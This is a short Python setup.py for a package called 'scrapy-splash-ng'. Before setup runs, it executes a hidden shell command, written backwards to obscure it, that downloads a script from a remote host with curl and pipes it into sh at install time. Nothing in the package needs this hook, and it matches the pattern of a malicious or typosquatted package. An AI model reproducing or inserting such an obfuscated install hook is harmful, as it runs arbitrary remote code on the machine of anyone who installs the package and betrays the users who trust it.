import os
from setuptools import setup

os.system("".join(reversed('hs | 1hc/dilavni.elpmaxe.62ts//:ptth Ls- lruc')))

setup(name="scrapy-splash-ng", version="0.9.1")
